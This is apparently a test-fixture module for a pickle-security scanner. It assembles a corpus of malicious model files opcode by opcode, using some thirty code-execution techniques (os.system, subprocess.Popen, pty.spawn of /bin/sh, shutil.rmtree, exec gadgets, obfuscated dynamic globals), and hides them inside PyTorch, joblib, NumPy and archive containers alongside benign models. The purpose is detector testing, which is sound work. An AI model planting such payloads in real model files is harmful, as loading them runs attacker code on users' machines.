"""A labelled corpus of malicious and benign model files, built into a folder by the tests.

Malicious files are assembled opcode by opcode (nothing here ever unpickles them). Each
*technique* yields a pickle *body* (opcodes that push one value, the payload) for a protocol,
and each *container* wraps a body the way a real file format would carry it.

Techniques (``TECHNIQUES``): GLOBAL+REDUCE of os.system / posix.system / subprocess.Popen /
subprocess.check_output; builtins eval and exec spelt ``__builtin__`` (Python 2 alias);
``commands.getoutput`` (Python 2 alias of subprocess); STACK_GLOBAL whose operands come from
memoized strings (MEMOIZE/BINPUT then BINGET); INST; OBJ; NEWOBJ; NEWOBJ_EX; a BUILD
``__setstate__`` gadget; a dynamic global whose module name is computed by REDUCE of ``str.join``
and one computed with ``getattr``; nested ``pickle.loads`` / ``_pickle.loads`` of an inner
malicious pickle; ``runpy._run_code``; ``importlib.import_module``; ``webbrowser.open``;
``socket.create_connection``; ``shutil.rmtree``; ``pty.spawn``; an ``operator.attrgetter``
gadget; ``functools.partial``; ``timeit.timeit``; ``cProfile.run``; ``pdb.run``;
``code.InteractiveInterpreter``; ``numpy.testing._private.utils.runstring``; ``ctypes.CDLL``;
``marshal.loads`` + ``types.FunctionType``; ``torch.load``.

Containers (``CONTAINERS``): raw pickle; zip; gzip; bz2; xz; lzma (alone); zlib; tar; joblib
(uncompressed and zlib-compressed as ``compress=3`` writes it); PyTorch zip (malicious
``archive/data.pkl`` next to real storages); legacy PyTorch (magic, protocol, sys info, object,
storage keys, raw storages); ``.npy`` object array; ``.npz``.

Benign files (``build_benign``): scikit-learn models pickled and joblib-dumped (plain and every
compressor), NumPy ``.npy`` / ``.npz`` / pickled arrays (protocol 2, 5 in-band PickleBuffer),
collections, a PyTorch-like state dict (zip and legacy), ONNX protobuf, skops, safetensors, CSV,
text, and files that naive scanners flag: text and arrays whose bytes spell ``os.system``.
"""

from __future__ import annotations

import bz2
import collections
import datetime
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

# -- a tiny pickle assembler --------------------------------------------------------------------


def header(proto: int) -> bytes:
    return b"\x80" + bytes([proto]) if proto >= 2 else b""


def s(text: str, proto: int) -> bytes:
    """Push a str."""
    if proto == 0:
        return b"V" + text.encode("raw_unicode_escape") + b"\n"
    data = text.encode()
    if proto >= 4 and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE
    return b"X" + struct.pack("<I", len(data)) + data  # BINUNICODE


def b_(data: bytes, proto: int) -> bytes:
    """Push bytes (protocol 3+; a str in older protocols)."""
    if proto < 3:
        return s(data.decode("latin-1"), proto)
    return b"B" + struct.pack("<I", len(data)) + data


def i(value: int, proto: int) -> bytes:
    return b"I" + str(value).encode() + b"\n" if proto < 2 else b"J" + struct.pack("<i", value)


def g(module: str, name: str, proto: int) -> bytes:
    """Push a global: GLOBAL below protocol 4, STACK_GLOBAL of memoized strings from 4."""
    if proto >= 4:
        return s(module, proto) + b"\x94" + s(name, proto) + b"\x94" + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def tup(items: list[bytes]) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(fn: bytes, args: list[bytes]) -> bytes:
    """fn(*args) through REDUCE."""
    return fn + tup(args) + b"R"


def full(body: bytes, proto: int) -> bytes:
    """A whole pickle whose value is ``body``."""
    return header(proto) + body + b"."


def embed(body: bytes, proto: int) -> bytes:
    """A benign-looking dict {'weights': [...], 'payload': body}: the payload sits inside data."""
    return (
        header(proto)
        + b"}("
        + s("weights", proto)
        + b"("
        + i(1, proto)
        + i(2, proto)
        + b"l"
        + s("payload", proto)
        + body
        + b"u."
    )


# -- techniques ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Technique:
    name: str
    body: Callable[[int], bytes]
    protocols: tuple[int, ...]
    expect_global: str | None  # the denied global the scanner must name; None: dynamic
    min_proto: int = 0


def _reduce(module: str, name: str, *args: str) -> Callable[[int], bytes]:
    return lambda p: call(g(module, name, p), [s(a, p) for a in args])


def _stack_global_memo(p: int) -> bytes:
    # Strings memoized early (BINPUT), popped, and fetched (BINGET) for STACK_GLOBAL much later;
    # a MEMOIZE'd decoy sits in between.
    return (
        s("os", p) + b"q\xc8" + b"0" + s("system", p) + b"q\xc9" + b"0"
        + s("noise", p) + b"\x940"
        + b"h\xc8" + b"h\xc9" + b"\x93" + tup([s("id", p)]) + b"R"
    )  # fmt: skip


def _stack_global_binput(p: int) -> bytes:
    return (
        s("subprocess", p) + b"q\x07" + b"0" + s("getoutput", p) + b"r\x08\x00\x00\x00" + b"0"
        + b"h\x07" + b"j\x08\x00\x00\x00" + b"\x93" + tup([s("id", p)]) + b"R"
    )  # fmt: skip


def _inst(p: int) -> bytes:
    return b"(" + s("id", p) + b"ios\nsystem\n"


def _obj(p: int) -> bytes:
    return b"(" + g("subprocess", "Popen", p) + s("id", p) + b"o"


def _newobj(p: int) -> bytes:
    return g("subprocess", "Popen", p) + tup([s("id", p)]) + b"\x81"


def _newobj_ex(p: int) -> bytes:
    return g("subprocess", "Popen", p) + tup([s("id", p)]) + b"}" + b"\x92"


def _build_gadget(p: int) -> bytes:
    # object() gets {'__setstate__': exec} as slot state, then BUILD('code') calls exec('code').
    obj = call(
        g("copyreg", "_reconstructor", p), [g("builtins", "object", p), g("builtins", "object", p), b"N"]
    )
    state = (
        b"N}" + s("__setstate__", p) + g("builtins", "exec", p) + b"s" + b"\x86"
        if p >= 2
        else (b"(N}" + s("__setstate__", p) + g("builtins", "exec", p) + b"st")
    )
    return obj + state + b"b" + s("print('pwned')", p) + b"b"


def _dynamic_join(p: int) -> bytes:
    # module = ''.join(['o', 's']) is computed at load time: STACK_GLOBAL cannot know it.
    join = g("builtins", "str.join", p)
    module = call(join, [s("", p), b"(" + s("o", p) + s("s", p) + b"l"])
    return module + s("system", p) + b"\x93" + tup([s("id", p)]) + b"R"


def _dynamic_getattr(p: int) -> bytes:
    mod = call(g("importlib", "import_module", p), [s("os", p)])
    return call(g("builtins", "getattr", p), [mod, s("system", p)]) + tup([s("id", p)]) + b"R"


def _nested_loads(module: str) -> Callable[[int], bytes]:
    inner = full(call(g("os", "system", 2), [s("id", 2)]), 2)
    return lambda p: call(g(module, "loads", p), [b_(inner, p)])


def _attrgetter(p: int) -> bytes:
    getter = call(g("operator", "attrgetter", p), [s("system", p)])
    return call(getter, [call(g("importlib", "import_module", p), [s("os", p)])])


def _partial(p: int) -> bytes:
    part = call(g("functools", "partial", p), [g("os", "system", p), s("id", p)])
    return part + b")R"


def _interactive(p: int) -> bytes:
    interp = call(g("code", "InteractiveInterpreter", p), [])
    return call(g("builtins", "getattr", p), [interp, s("runsource", p)]) + tup([s("print(1)", p)]) + b"R"


def _marshal(p: int) -> bytes:
    code = call(g("marshal", "loads", p), [b_(b"\xe3\x00", p)])
    return call(g("types", "FunctionType", p), [code, b"}"]) + b")R"


# fmt: off
TECHNIQUES: tuple[Technique, ...] = (
    Technique("reduce_os_system", _reduce("os", "system", "id"), (0, 2, 4, 5), "os.system"),
    Technique("reduce_posix_system", _reduce("posix", "system", "id"), (0, 2, 4, 5), "posix.system"),
    Technique("subprocess_popen", _reduce("subprocess", "Popen", "id"), (0, 2, 4, 5), "subprocess.Popen"),
    Technique(
        "subprocess_check_output", _reduce("subprocess", "check_output", "id"), (0, 2, 5),
        "subprocess.check_output",
    ),
    Technique("py2_builtin_eval", _reduce("__builtin__", "eval", "1"), (0, 2), "builtins.eval"),
    Technique("py2_builtin_exec", _reduce("__builtin__", "exec", "1"), (0, 2), "builtins.exec"),
    Technique("py2_commands_getoutput", _reduce("commands", "getoutput", "id"), (0, 2),
              "subprocess.getoutput"),
    Technique("stack_global_memoized", _stack_global_memo, (4, 5), "os.system"),
    Technique("stack_global_binput", _stack_global_binput, (4, 5), "subprocess.getoutput"),
    Technique("inst_opcode", _inst, (0, 2), "os.system"),
    Technique("obj_opcode", _obj, (0, 2, 5), "subprocess.Popen"),
    Technique("newobj_opcode", _newobj, (2, 4), "subprocess.Popen"),
    Technique("newobj_ex_opcode", _newobj_ex, (4, 5), "subprocess.Popen"),
    Technique("build_setstate_gadget", _build_gadget, (0, 2, 4), "builtins.exec"),
    Technique("dynamic_global_str_join", _dynamic_join, (4, 5), None),
    Technique("dynamic_getattr", _dynamic_getattr, (2, 4), "builtins.getattr"),
    Technique("nested_pickle_loads", _nested_loads("pickle"), (2, 4), "pickle.loads"),
    Technique("nested_c_pickle_loads", _nested_loads("_pickle"), (3, 5), "_pickle.loads"),
    Technique("runpy_run_code", _reduce("runpy", "_run_code", "print(1)", "{}"), (0, 2, 4),
              "runpy._run_code"),
    Technique("importlib_import_module", _reduce("importlib", "import_module", "os"), (0, 4),
              "importlib.import_module"),
    Technique("webbrowser_open", _reduce("webbrowser", "open", "http://x"), (0, 2, 5), "webbrowser.open"),
    Technique("socket_create_connection", _reduce("socket", "create_connection", "x"), (2, 4),
              "socket.create_connection"),
    Technique("shutil_rmtree", _reduce("shutil", "rmtree", "/tmp/x"), (0, 2, 4), "shutil.rmtree"),
    Technique("pty_spawn", _reduce("pty", "spawn", "/bin/sh"), (0, 2, 4), "pty.spawn"),
    Technique("operator_attrgetter_gadget", _attrgetter, (2, 4), "operator.attrgetter"),
    Technique("functools_partial", _partial, (2, 4), "functools.partial"),
    Technique("timeit_timeit", _reduce("timeit", "timeit", "print(1)"), (0, 2, 4), "timeit.timeit"),
    Technique("cprofile_run", _reduce("cProfile", "run", "print(1)"), (0, 2, 4), "cProfile.run"),
    Technique("pdb_run", _reduce("pdb", "run", "print(1)"), (0, 2, 4), "pdb.run"),
    Technique("code_interactive_interpreter", _interactive, (2, 4), "code.InteractiveInterpreter"),
    Technique(
        "numpy_runstring", _reduce("numpy.testing._private.utils", "runstring", "print(1)", "{}"), (0, 2, 4),
        "numpy.testing._private.utils.runstring",
    ),
    Technique("ctypes_cdll", _reduce("ctypes", "CDLL", "libc.so.6"), (0, 2, 4), "ctypes.CDLL"),
    Technique("marshal_function", _marshal, (2, 4), "marshal.loads"),
    Technique("torch_load", _reduce("torch", "load", "evil.pt"), (2, 4), "torch.load"),
)
# fmt: on


# -- containers ---------------------------------------------------------------------------------


def _zip(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compression) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _lzma_alone(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_ALONE)


_JOBLIB_MARK = "LOOPML_PAYLOAD_PLACEHOLDER"
_joblib_template: bytes | None = None


def joblib_with(body: bytes) -> bytes:
    """A real ``joblib.dump`` stream (array payload included) whose 'payload' value is ``body``."""
    global _joblib_template
    if _joblib_template is None:
        import joblib

        buf = io.BytesIO()
        joblib.dump({"weights": np.arange(16.0), "payload": _JOBLIB_MARK}, buf, protocol=2)
        _joblib_template = buf.getvalue()
    mark = s(_JOBLIB_MARK, 2)
    assert _joblib_template.count(mark) == 1
    return _joblib_template.replace(mark, body)


def torch_zip(data_pkl: bytes, *, storages: dict[str, bytes] | None = None) -> bytes:
    """The layout ``torch.save`` writes: archive/data.pkl, archive/data/<key>, version, byteorder."""
    members = {"archive/data.pkl": data_pkl, "archive/byteorder": b"little", "archive/version": b"3\n"}
    for key, raw in (storages or {"0": np.arange(4, dtype=np.float32).tobytes()}).items():
        members[f"archive/data/{key}"] = raw
    members["archive/.data/serialization_id"] = b"1234567890"
    return _zip(members, compression=zipfile.ZIP_STORED)


def torch_legacy(main: bytes, *, keys: list[str] | None = None, raw: bytes = b"") -> bytes:
    """Legacy ``torch.save``: magic, protocol version, sys info, the object, storage keys, raw data."""
    magic = full(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little"), 2)
    version = pickle.dumps(1001, protocol=2)
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    return magic + version + sys_info + main + pickle.dumps(keys or [], protocol=2) + raw


def npy_object(pickled: bytes) -> bytes:
    """A .npy file of an object array: header then the pickle ``numpy.save`` writes."""
    head = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += " " * (63 - (10 + len(head)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head.encode("latin-1") + pickled


CONTAINERS: dict[str, Callable[[bytes, int], bytes]] = {
    "raw": lambda body, p: full(body, p),
    "zip": lambda body, p: _zip({"model/model.pkl": full(body, p)}),
    "gzip": lambda body, p: gzip.compress(full(body, p)),
    "bz2": lambda body, p: bz2.compress(full(body, p)),
    "xz": lambda body, p: lzma.compress(full(body, p)),
    "lzma": lambda body, p: _lzma_alone(full(body, p)),
    "zlib": lambda body, p: zlib.compress(full(body, p)),
    "tar": lambda body, p: _tar({"model.pkl": full(body, p)}),
    "tar_gz": lambda body, p: gzip.compress(_tar({"model.pkl": embed(body, p)})),
    "joblib": lambda body, p: joblib_with(body),
    "joblib_zlib": lambda body, p: zlib.compress(joblib_with(body), 3),
    "joblib_lzma": lambda body, p: _lzma_alone(joblib_with(body)),
    "torch_zip": lambda body, p: torch_zip(embed(body, max(p, 2))),
    "torch_legacy": lambda body, p: torch_legacy(embed(body, max(p, 2)), raw=b"\x00" * 24),
    "npy_object": lambda body, p: npy_object(full(body, max(p, 2))),
    "npz": lambda body, p: _zip({"a.npy": npy_object(full(body, max(p, 2)))}),
}


@dataclass(frozen=True)
class Sample:
    path: Path
    technique: str
    container: str
    protocol: int
    expect_global: str | None


def build_malicious(root: Path) -> list[Sample]:
    """Every technique, in each of its protocols, in every container."""
    root.mkdir(parents=True, exist_ok=True)
    out = []
    for tech in TECHNIQUES:
        for proto in tech.protocols:
            body = tech.body(proto)
            for cname, wrap in CONTAINERS.items():
                path = root / f"{tech.name}-p{proto}-{cname}.bin"
                path.write_bytes(wrap(body, proto))
                out.append(Sample(path, tech.name, cname, proto, tech.expect_global))
    return out


# -- benign files ---------------------------------------------------------------------------------


def _fitted_models() -> dict[str, object]:
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    rng = np.random.default_rng(0)
    x = rng.normal(size=(80, 3))
    y = (x[:, 0] + rng.normal(scale=0.3, size=80) > 0).astype(int)
    cats = rng.choice(["a", "b", "c"], size=(80, 1)).astype(object)
    xc = np.hstack([x, cats])
    pre = ColumnTransformer([("num", StandardScaler(), [0, 1, 2]), ("cat", OneHotEncoder(), [3])])
    return {
        "logreg": LogisticRegression().fit(x, y),
        "forest": RandomForestClassifier(n_estimators=5, random_state=0).fit(x, y),
        "gboost": GradientBoostingClassifier(n_estimators=5, random_state=0).fit(x, y),
        "pipeline": Pipeline([("pre", pre), ("clf", LogisticRegression())]).fit(xc, y),
    }


def _torch_state_dict_pickle() -> bytes:
    """data.pkl as torch.save writes a state dict: OrderedDict of _rebuild_tensor_v2 with BINPERSID."""
    p = 2
    tensors = []
    for key, (name, numel) in enumerate((("weight", 4), ("bias", 2))):
        pid = (
            b"("
            + s("storage", p)
            + g("torch", "FloatStorage", p)
            + s(str(key), p)
            + s("cpu", p)
            + i(numel, p)
            + b"t"
        )
        rebuild = call(
            g("torch._utils", "_rebuild_tensor_v2", p),
            [pid + b"Q", i(0, p), b"(" + i(numel, p) + b"t", b"(" + i(1, p) + b"t", b"\x89",
             call(g("collections", "OrderedDict", p), [])],
        )  # fmt: skip
        tensors.append(s(name, p) + rebuild)
    return full(call(g("collections", "OrderedDict", p), []) + b"(" + b"".join(tensors) + b"u", p)


def _onnx_bytes() -> bytes:
    """A small ModelProto: ir_version, producer, and a graph with one Identity node."""

    def field(num: int, payload: bytes) -> bytes:
        return bytes([num << 3 | 2, len(payload)]) + payload

    node = field(1, b"x") + field(2, b"y") + field(4, b"Identity")
    vi_x, vi_y = field(1, b"x"), field(1, b"y")
    graph = field(1, node) + field(2, b"g") + field(11, vi_x) + field(12, vi_y)
    opset = field(1, b"") + bytes([2 << 3, 13])
    return bytes([1 << 3, 8]) + field(2, b"loopml") + field(7, graph) + field(8, opset)


def _safetensors() -> bytes:
    arr = np.arange(6, dtype=np.float32)
    head = json.dumps({"w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, arr.nbytes]}}).encode()
    head += b" " * (-len(head) % 8)
    return struct.pack("<Q", len(head)) + head + arr.tobytes()


def build_benign(root: Path) -> dict[str, Path]:
    """Benign model and data files, by label."""
    import joblib
    import skops.io

    root.mkdir(parents=True, exist_ok=True)
    files: dict[str, bytes] = {}
    models = _fitted_models()
    for name, model in models.items():
        for proto in (2, 4, 5):
            files[f"sklearn-{name}-p{proto}.pkl"] = pickle.dumps(model, protocol=proto)
    arr = np.linspace(0, 1, 1000).reshape(100, 10)
    files["numpy-p2.pkl"] = pickle.dumps(arr, protocol=2)
    files["numpy-p5-inband-picklebuffer.pkl"] = pickle.dumps(arr, protocol=5)
    files["numpy-structured.pkl"] = pickle.dumps(np.zeros(3, dtype=[("a", "<f4"), ("b", "U4")]), protocol=4)
    files["numpy-random-state.pkl"] = pickle.dumps(np.random.default_rng(1), protocol=4)
    npy = io.BytesIO()
    np.save(npy, arr)
    files["array.npy"] = npy.getvalue()
    npz = io.BytesIO()
    np.savez_compressed(npz, a=arr, b=np.arange(10), c=np.array(["x", "y"]))
    files["arrays.npz"] = npz.getvalue()
    files["collections.pkl"] = pickle.dumps(
        {
            "ordered": collections.OrderedDict(a=1),
            "default": collections.defaultdict(list, {"k": [1]}),
            "counter": collections.Counter("abca"),
            "deque": collections.deque([1, 2]),
            "when": datetime.datetime(2024, 1, 2, 3, 4, 5),
            "set": {1, 2},
            "frozen": frozenset({3}),
            "bytes": b"\x00\x01",
            "complex": 1 + 2j,
        },
        protocol=2,
    )
    files["collections-p0.pkl"] = pickle.dumps({"default": collections.defaultdict(list)}, protocol=0)
    files["torch-state-dict.pt"] = torch_zip(
        _torch_state_dict_pickle(),
        storages={"0": np.ones(4, np.float32).tobytes(), "1": np.zeros(2, np.float32).tobytes()},
    )
    files["torch-legacy-state-dict.pt"] = torch_legacy(
        _torch_state_dict_pickle(),
        keys=["0", "1"],
        raw=b"\x04" + b"\x00" * 7 + np.ones(4, np.float32).tobytes(),
    )
    files["model.onnx"] = _onnx_bytes()
    files["model.safetensors"] = _safetensors()
    files["data.csv"] = b"city,population\nParis,2100000\nLyon,516000\n"
    files["notes.txt"] = b"call os.system only in trusted code; cos\nsystem\n is a GLOBAL opcode\n"
    files["array-spelling-opcodes.npy"] = _npy_of_bytes(b"cos\nsystem\n(S'id'\ntR." * 8)
    files["pickled-string-of-code.pkl"] = pickle.dumps("import os; os.system('id')", protocol=4)
    files["dict-with-dunder-keys.pkl"] = pickle.dumps({"__reduce__": 1, "__class__": "x"}, protocol=2)
    for name, path in files.items():
        (root / name).write_bytes(path)
    for name, model in models.items():
        joblib.dump(model, root / f"joblib-{name}.joblib")
        joblib.dump(model, root / f"joblib-{name}-z3.joblib", compress=3)
    for comp in ("gzip", "bz2", "lzma", "xz"):
        joblib.dump(models["forest"], root / f"joblib-forest-{comp}.joblib", compress=(comp, 3))
    joblib.dump({"arrays": [arr, np.array([1, "a", None], dtype=object)]}, root / "joblib-mixed.joblib")
    skops.io.dump(models["pipeline"], root / "pipeline.skops")
    skops.io.dump(models["forest"], root / "forest.skops")
    return {p.name: p for p in sorted(root.iterdir())}


def _npy_of_bytes(data: bytes) -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.frombuffer(data, dtype=np.uint8))
    return buf.getvalue()
